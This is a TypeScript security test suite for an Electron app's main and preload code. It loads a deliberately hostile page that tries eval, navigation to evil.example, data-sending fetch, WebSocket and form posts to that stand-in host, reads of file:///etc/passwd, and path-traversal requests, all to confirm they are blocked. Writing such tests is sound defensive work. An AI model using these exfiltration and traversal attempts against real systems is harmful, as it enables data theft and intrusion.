// Electron's security checklist against the built main and preload, as far as the double can show it (see its README). The page of these
// tests is hostile: it tries everything that a script in a page of ours could try.
import { afterAll, afterEach, beforeAll, expect, test } from 'vitest'
import type { Page } from 'playwright-core'
import { startChromium, type OwnChromium } from '../e2e/support/chromium.ts'
import { launchElectronDouble, pageOrigin, type RunningDouble } from '../e2e/support/electronDouble.ts'
import { builtWithPage, type BuiltWithPage } from './builtWithPage.ts'

const hostilePage = `
  window.tried = {}
  try { window.tried.eval = eval('1 + 1') } catch (error) { window.tried.eval = error.name }
  try { window.tried.function = new Function('return 1')() } catch (error) { window.tried.function = error.name }
  setTimeout('window.tried.timer = 1')
  const inline = document.createElement('script')
  inline.textContent = 'window.tried.inline = 1'
  document.head.append(inline)
  document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="window.tried.handler = 1">')
`
let bundle: BuiltWithPage
let chromium: OwnChromium
let app: RunningDouble
let page: Page
let messageBoxAnswer = 0

beforeAll(async () => {
  bundle = builtWithPage(hostilePage)
  chromium = await startChromium()
  app = launchElectronDouble({ chromium, home: bundle.newHome(), built: bundle.built, answer: () => ({ response: messageBoxAnswer }) })
  page = await app.page()
})

afterAll(async () => {
  await app.close()
  await chromium.close()
  bundle.remove()
})

afterEach(() => {
  expect(app.problems()).toEqual([])
  expect(page.url().startsWith(`${pageOrigin}/`)).toBe(true)
})

type Bridge = { outsideIn: { call: (name: string, params: unknown) => Promise<unknown>; onEvent: unknown } }
const call = (name: string, params: unknown) =>
  page.evaluate(([operation, given]) => (window as unknown as Bridge).outsideIn.call(operation as string, given), [name, params])
const notesOf = (kind: string) => app.notes.filter((note) => note.kind === kind)

test('the window is shown with sandbox, context isolation and without Node, and nothing else is switched on', async () => {
  const [created] = notesOf('windowCreated') as unknown as { options: { webPreferences: Record<string, unknown> } }[]
  const { preload, ...preferences } = created?.options.webPreferences ?? {}
  expect(preload).toBe(`${bundle.built}/preload/index.cjs`)
  expect(preferences).toEqual({
    sandbox: true,
    contextIsolation: true,
    nodeIntegration: false,
    nodeIntegrationInWorker: false,
    nodeIntegrationInSubFrames: false,
    webSecurity: true,
    allowRunningInsecureContent: false,
    webviewTag: false,
    navigateOnDragDrop: false,
    devTools: true,
    spellcheck: false
  })
  expect(await app.order('isSandboxed')).toBe(true)
  expect(notesOf('schemes')).toEqual([
    { kind: 'schemes', schemes: [{ scheme: 'app', privileges: { standard: true, secure: true, supportFetchAPI: true, codeCache: true } }] }
  ])
})

test('the page gets two functions and nothing of Electron or Node', async () => {
  const seen = await page.evaluate(() => ({
    bridge: Object.entries((window as unknown as Bridge).outsideIn).map(([name, value]) => [name, typeof value]),
    frozen: Object.isFrozen((window as unknown as Bridge).outsideIn),
    globals: ['require', 'process', 'Buffer', 'module', 'global', 'electron', 'ipcRenderer', 'electronDoubleSend'].filter(
      (name) => name in window
    )
  }))
  expect(seen).toEqual({
    bridge: [
      ['call', 'function'],
      ['onEvent', 'function']
    ],
    frozen: true,
    globals: []
  })
})

test('a call is answered by the contract, whatever name is called', async () => {
  expect(await call('host.info', {})).toMatchObject({ ok: true, value: { host: 'electron', canPickFiles: true } })
  for (const name of ['host.nothing', '__proto__', 'constructor', 'toString', '']) {
    expect(await call(name, {}), name).toMatchObject({ ok: false, error: { code: 'unknownOperation' } })
  }
  expect(await call('settings.get', { key: 1 })).toMatchObject({ ok: false, error: { code: 'badRequest' } })
})

test('only the main frame of our own page in our own window is listened to', async () => {
  const own = { url: 'app://bundle/maps/1', parent: null }
  const as = async (frame: unknown, isOurs = true) => {
    const answer = await app.order('invokeAs', { channel: 'outside-in:call', args: ['host.info', {}], frame, isOurs })
    return (answer as { value: { ok: boolean; error?: { code: string } } }).value
  }
  expect((await as(own)).ok).toBe(true)
  const strangers: unknown[] = [
    null,
    { url: 'https://evil.example/', parent: null },
    { url: 'app://bundle.evil.example/', parent: null },
    { url: 'app://other/', parent: null },
    { url: 'app://user@bundle/', parent: null },
    { url: 'file:///app://bundle/', parent: null },
    { url: 'about:blank', parent: null },
    { url: '', parent: null },
    { url: 'https://app//bundle/', parent: null },
    { ...own, parent: {} }
  ]
  for (const frame of strangers) expect(await as(frame), JSON.stringify(frame)).toMatchObject({ ok: false, error: { code: 'forbidden' } })
  expect(await as(own, false)).toMatchObject({ ok: false, error: { code: 'forbidden' } })
})

test('the policy lets no string become code', async () => {
  await page.evaluate(() => new Promise((resolve) => setTimeout(resolve)))
  const tried = await page.evaluate(() => (window as unknown as { tried: unknown }).tried)
  expect(tried).toEqual({ eval: 'EvalError', function: 'EvalError' })
  const policy = await page.evaluate(async () => (await fetch('/')).headers.get('content-security-policy'))
  expect(policy).toContain("default-src 'none'; script-src 'self';")
  expect(policy).not.toMatch(/unsafe|https?:|\*/)
})

test('the page cannot be navigated away', async () => {
  const denied = notesOf('navigationDenied').length
  const goTo = (url: string) =>
    page.evaluate((address) => {
      location.href = address
    }, url)
  for (const url of ['https://evil.example/', 'http://127.0.0.1:9/', 'app://other/']) await goTo(url).catch(() => undefined)
  await page.evaluate(() => {
    const link = document.body.appendChild(document.createElement('a'))
    link.href = 'https://evil.example/link'
    link.click()
  })
  await page.evaluate(() => {
    const meta = document.createElement('meta')
    meta.httpEquiv = 'refresh'
    meta.content = '0; url=https://evil.example/refresh'
    document.head.append(meta)
  })
  await expect.poll(() => notesOf('navigationDenied').length - denied).toBeGreaterThanOrEqual(3)
  await expect.poll(() => page.title()).toBe('Host test')
})

test('no new window opens, by script or by link', async () => {
  const before = chromium.context.pages().length
  await page.evaluate(() => void open('https://evil.example/window'))
  await page.evaluate(() => {
    const link = document.body.appendChild(document.createElement('a'))
    link.href = 'https://evil.example/blank'
    link.target = '_blank'
    link.rel = 'opener'
    link.click()
  })
  await expect
    .poll(() => notesOf('windowDenied').map((note) => 'url' in note && note.url))
    .toEqual(['https://evil.example/window', 'https://evil.example/blank'])
  await expect.poll(() => chromium.context.pages().length).toBe(before)
})

test('every permission but filling the screen is denied, asked for or checked; web views and downloads do not come up', async () => {
  const permissions =
    'clipboard-read clipboard-sanitized-write display-capture geolocation hid idle-detection media mediaKeySystem midi midiSysex ' +
    'notifications pointerLock keyboardLock openExternal speaker-selection storage-access usb serial window-management fileSystem unknown'
  const asked = { url: 'app://bundle/maps/j1/present', isMainFrame: true }
  for (const permission of permissions.split(' ')) {
    expect(await app.order('permission', { ...asked, permission }), permission).toEqual({ requested: false, checked: false, device: false })
  }
  const fullScreen = (from: object) => app.order('permission', { ...asked, ...from, permission: 'fullscreen' })
  expect(await fullScreen({})).toEqual({ requested: true, checked: true, device: false })
  for (const from of [{ isMainFrame: false }, { url: 'https://evil.example/' }, { url: 'app://other/' }])
    expect(await fullScreen(from), JSON.stringify(from)).toEqual({ requested: false, checked: false, device: false })
  expect(await app.order('attachWebview')).toBe(true)
  expect(await app.order('download')).toEqual({ prevented: true })
})

test('nothing leaves the page: the policy stops it, and without the policy main does', async () => {
  const attempts = () =>
    page.evaluate(async () => {
      const settled = (work: () => Promise<unknown>) =>
        work().then(
          () => 'left',
          () => 'stopped'
        )
      const element = (tag: string, attribute: string) =>
        new Promise((resolve, reject) => {
          const made = document.createElement(tag)
          made.addEventListener('load', resolve)
          made.addEventListener('error', reject)
          if (tag === 'link') made.setAttribute('rel', 'stylesheet')
          made.setAttribute(attribute, `https://evil.example/${tag}`)
          document.head.append(made)
        })
      const events = new Promise((resolve, reject) => {
        const made = new EventSource('https://evil.example/events')
        made.addEventListener('open', resolve)
        made.addEventListener('error', reject)
      }).then(
        () => 'left',
        () => 'stopped'
      )
      const socket = new Promise((resolve, reject) => {
        const made = new WebSocket('wss://evil.example/socket')
        made.addEventListener('open', resolve)
        made.addEventListener('error', reject)
      }).then(
        () => 'left',
        () => 'stopped'
      )
      return Promise.all([
        settled(() => fetch('https://evil.example/fetch', { method: 'POST', body: 'x', mode: 'no-cors' })),
        settled(() => fetch('http://127.0.0.1:9/fetch')),
        settled(() => fetch('file:///etc/passwd')),
        settled(() => element('img', 'src')),
        settled(() => element('script', 'src')),
        settled(() => element('link', 'href')),
        events,
        socket
      ])
    })
  expect(await attempts()).toEqual(Array(8).fill('stopped'))
  const devtools = await chromium.context.newCDPSession(page)
  await devtools.send('Page.setBypassCSP', { enabled: true })
  await Promise.all([page.waitForEvent('load'), page.evaluate(() => location.assign('/'))])
  expect(await attempts()).toEqual(Array(8).fill('stopped'))
  const blocked = () => notesOf('blocked').map((note) => 'url' in note && note.url)
  await expect
    .poll(blocked)
    .toEqual(expect.arrayContaining(['https://evil.example/fetch', 'http://127.0.0.1:9/fetch', 'https://evil.example/img']))
  await devtools.send('Page.setBypassCSP', { enabled: false })
})

test('only files of the page are served', async () => {
  const statuses = await page.evaluate(() =>
    Promise.all(
      [
        '/assets/page.js',
        '/maps/j1',
        '/main/index.js',
        '/../main/index.js',
        '/%2e%2e/main/index.js',
        '/assets/..%2f..%2fmain/index.js',
        '/etc/passwd.txt'
      ].map(async (path) => (await fetch(path)).status)
    )
  )
  expect(statuses).toEqual([200, 200, 404, 404, 404, 404, 404])
  expect(await page.evaluate(async () => (await fetch('/', { method: 'POST' })).status)).toBe(405)
})

test('an address is opened outside only over https or mail, and only after the person said so', async () => {
  messageBoxAnswer = 1
  expect(await call('host.openExternal', { url: 'https://example.org/no' })).toEqual({ ok: true, value: { opened: false } })
  messageBoxAnswer = 0
  expect(await call('host.openExternal', { url: 'https://example.org/yes' })).toEqual({ ok: true, value: { opened: true } })
  expect(await call('host.openExternal', { url: 'mailto:lan@example.org' })).toEqual({ ok: true, value: { opened: true } })
  const asked = app.questions.length
  for (const url of [
    'http://example.org/',
    'file:///etc/passwd',
    ['javascript', 'alert(1)'].join(':'),
    'smb://server/x',
    'https://user:word@example.org/'
  ]) {
    expect(await call('host.openExternal', { url }), url).not.toEqual({ ok: true, value: { opened: true } })
  }
  // What the app notes comes on a way of its own: once an order is answered, all that it noted before is here.
  await app.order('windows')
  expect(app.questions.length).toBe(asked)
  expect(notesOf('openedExternally').map((note) => 'url' in note && note.url)).toEqual([
    'https://example.org/yes',
    'mailto:lan@example.org'
  ])
})

test('a page can have one second window, on a view of its own and as safe as the first; nothing else can be named', async () => {
  const id = 'j0123456789abcdefghij'
  const others = [
    { view: 'https://evil.example/', id },
    { view: 'settings', id },
    { view: 'presenter', id: '../../evil' },
    { view: 'presenter', id: 'https://evil.example/' },
    { view: 'presenter', id: '' },
    { view: 'presenter' }
  ]
  for (const asked of others) expect(await call('host.openWindow', asked)).toMatchObject({ ok: false, error: { code: 'badRequest' } })
  expect(await app.order('windows')).toHaveLength(1)
  expect(await call('host.openWindow', { view: 'presenter', id, address: 'https://evil.example/' })).toEqual({
    ok: true,
    value: { opened: true }
  })
  const shown = async () => ((await app.order('windows')) as { url: string }[]).map(({ url }) => url)
  await expect.poll(shown).toEqual(['app://bundle/', `app://bundle/maps/${id}/presenter`])
  const [first, second] = notesOf('windowCreated') as unknown as { options: { webPreferences: object } }[]
  expect(second?.options.webPreferences).toEqual(first?.options.webPreferences)
  // Asked for again it is the same window, and its page is heard like the first.
  await call('host.openWindow', { view: 'presenter', id })
  expect(await shown()).toHaveLength(2)
  const there = chromium.context.pages().find((each) => each.url().endsWith('/presenter'))
  const answer = await there?.evaluate(() => (window as unknown as Bridge).outsideIn.call('host.info', {}))
  expect(answer).toMatchObject({ ok: true, value: { host: 'electron' } })
})

// The last one: Chromium answers a form that the policy forbids with an empty page.
test('a form sends nothing anywhere', async () => {
  await page.evaluate(() => {
    const form = document.body.appendChild(document.createElement('form'))
    form.action = 'https://evil.example/form'
    form.method = 'post'
    form.submit()
  })
  const settled = await page
    .waitForFunction(() => document.readyState === 'complete', undefined, { timeout: 2_000 })
    .then(
      () => 'settled',
      () => 'settled'
    )
  expect([settled, notesOf('egress')]).toEqual(['settled', []])
})
